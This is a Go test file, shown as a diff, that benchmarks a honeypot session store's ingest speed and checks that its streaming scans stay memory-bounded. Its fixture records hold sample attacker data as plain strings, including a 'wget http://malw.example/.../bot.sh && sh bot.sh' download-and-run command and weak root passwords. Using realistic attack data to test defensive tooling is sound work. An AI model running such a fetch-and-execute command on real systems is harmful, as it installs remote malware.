@@ -1,0 +1,193 @@
+package store
+
+import (
+	"fmt"
+	"runtime"
+	"runtime/debug"
+	"sync/atomic"
+	"testing"
+	"time"
+
+	"honeynet/internal/session"
+)
+
+// benchRecord builds records sized like real honeypot sessions (a few
+// hundred bytes of JSON).
+func benchRecord(i int) *session.Record {
+	start := time.Date(2021, time.Month(5+(i%12)), 1, 0, 0, 0, 0, time.UTC).
+		Add(time.Duration(i) * 13 * time.Second)
+	return &session.Record{
+		ID:         uint64(i),
+		Start:      start,
+		End:        start.Add(40 * time.Second),
+		HoneypotID: "hp-1",
+		ClientIP:   fmt.Sprintf("45.%d.%d.%d", i%200, (i/200)%250, i%250),
+		ClientPort: 30000 + i%20000,
+		Protocol:   session.ProtoSSH,
+		Logins: []session.LoginAttempt{
+			{Username: "root", Password: "123456", Success: false},
+			{Username: "root", Password: "admin", Success: true},
+		},
+		Commands: []session.Command{
+			{Raw: "uname -a; cat /proc/cpuinfo | grep model | wc -l", Known: true},
+			{Raw: fmt.Sprintf("wget http://malw.example/%d/bot.sh && sh bot.sh", i%977), Known: true},
+		},
+		StateChanged: i%3 == 0,
+	}
+}
+
+// BenchmarkStoreIngest measures append throughput through the WAL with
+// periodic sealing, reporting records/s.
+func BenchmarkStoreIngest(b *testing.B) {
+	dir := b.TempDir()
+	s, err := Open(dir, Options{SealBytes: 8 << 20, SyncEvery: -1})
+	if err != nil {
+		b.Fatal(err)
+	}
+	defer s.Close()
+	recs := make([]*session.Record, 4096)
+	for i := range recs {
+		recs[i] = benchRecord(i)
+	}
+	b.ResetTimer()
+	start := time.Now()
+	for i := 0; i < b.N; i++ {
+		if err := s.Append(recs[i%len(recs)]); err != nil {
+			b.Fatal(err)
+		}
+	}
+	b.StopTimer()
+	if el := time.Since(start).Seconds(); el > 0 {
+		b.ReportMetric(float64(b.N)/el, "recs/s")
+	}
+}
+
+// BenchmarkStoreScanMonth scans one sealed month via the streaming
+// cursor and reports peak heap growth over the scan. The acceptance
+// property: the peak is bounded by the block size (one compressed block
+// plus its payload resident at a time), not by the dataset size —
+// scanning 4x the data must not take 4x the memory.
+func BenchmarkStoreScanMonth(b *testing.B) {
+	const n = 20000
+	dir := b.TempDir()
+	s, err := Open(dir, Options{SealBytes: -1, SyncEvery: -1})
+	if err != nil {
+		b.Fatal(err)
+	}
+	defer s.Close()
+	for i := 0; i < n; i++ {
+		if err := s.Append(benchRecord(i)); err != nil {
+			b.Fatal(err)
+		}
+	}
+	if err := s.Seal(); err != nil {
+		b.Fatal(err)
+	}
+	month := s.Months()[0]
+
+	// Sample heap growth from a sibling goroutine while scans run. The
+	// sample cadence is coarse, but block-bounded scanning stays within
+	// a few MB where materializing the month would show tens.
+	runtime.GC()
+	var base runtime.MemStats
+	runtime.ReadMemStats(&base)
+	var peak atomic.Uint64
+	stop := make(chan struct{})
+	sampled := make(chan struct{})
+	go func() {
+		defer close(sampled)
+		var ms runtime.MemStats
+		for {
+			select {
+			case <-stop:
+				return
+			default:
+				runtime.ReadMemStats(&ms)
+				if g := ms.HeapAlloc - base.HeapAlloc; ms.HeapAlloc > base.HeapAlloc && g > peak.Load() {
+					peak.Store(g)
+				}
+				time.Sleep(200 * time.Microsecond) // ReadMemStats stops the world
+			}
+		}
+	}()
+
+	b.ResetTimer()
+	var total int
+	for i := 0; i < b.N; i++ {
+		cur := s.Scan(Month(month), nil)
+		for cur.Next() {
+			total += len(cur.Record().ClientIP)
+		}
+		if err := cur.Err(); err != nil {
+			b.Fatal(err)
+		}
+		cur.Close()
+	}
+	b.StopTimer()
+	close(stop)
+	<-sampled
+	if total == 0 {
+		b.Fatal("scan yielded nothing")
+	}
+	b.ReportMetric(float64(peak.Load()), "peak-bytes")
+	b.ReportMetric(float64(n*b.N)/b.Elapsed().Seconds(), "recs/s")
+}
+
+// TestScanMemoryBounded is the non-benchmark form of the acceptance
+// criterion: peak heap growth during a streaming scan must be a small
+// fraction of the materialized dataset size.
+func TestScanMemoryBounded(t *testing.T) {
+	if testing.Short() {
+		t.Skip("memory-profile test")
+	}
+	const n = 30000
+	dir := t.TempDir()
+	s, err := Open(dir, Options{SealBytes: -1, SyncEvery: -1, BlockBytes: 128 << 10})
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer s.Close()
+	for i := 0; i < n; i++ {
+		if err := s.Append(benchRecord(i)); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := s.Seal(); err != nil {
+		t.Fatal(err)
+	}
+
+	// Keep GC pacing tight so short-lived decode garbage cannot mimic a
+	// materialization leak: growth reflects live cursor state, not pacing.
+	old := debug.SetGCPercent(10)
+	defer debug.SetGCPercent(old)
+	runtime.GC()
+	var before runtime.MemStats
+	runtime.ReadMemStats(&before)
+	cur := s.Scan(TimeRange{}, nil)
+	count := 0
+	var peak uint64
+	var ms runtime.MemStats
+	for cur.Next() {
+		count++
+		if count%2000 == 0 {
+			runtime.ReadMemStats(&ms)
+			if ms.HeapAlloc > before.HeapAlloc && ms.HeapAlloc-before.HeapAlloc > peak {
+				peak = ms.HeapAlloc - before.HeapAlloc
+			}
+		}
+	}
+	if err := cur.Err(); err != nil {
+		t.Fatal(err)
+	}
+	cur.Close()
+	if count != n {
+		t.Fatalf("scanned %d records, want %d", count, n)
+	}
+	// ~30k records at ~400B JSON each is >10 MB materialized. A
+	// block-bounded scan with 128 KiB blocks plus GC slack should stay
+	// far under half of that; 6 MB is a generous ceiling that still
+	// fails hard if the cursor starts materializing segments.
+	if peak > 6<<20 {
+		t.Fatalf("scan peak heap growth %d bytes exceeds block-bounded ceiling", peak)
+	}
+}
